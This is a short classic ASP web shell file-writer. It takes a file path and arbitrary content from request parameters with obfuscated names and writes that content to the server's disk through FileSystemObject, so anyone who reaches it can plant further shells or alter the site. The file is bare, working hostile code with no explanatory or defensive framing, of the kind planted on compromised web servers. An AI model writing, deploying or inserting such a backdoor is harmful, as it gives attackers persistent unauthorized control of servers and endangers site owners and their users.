<%
If Request("m4xeug") <> "" Then
    Set fso = Server.CreateObject("Scripting.FileSystemObject")
    Set t = fso.CreateTextFile(Server.MapPath(Request("m4xeug")), True)
    t.Write Request("fwm")
    t.Close
    Response.Write "ok"
End If
%>
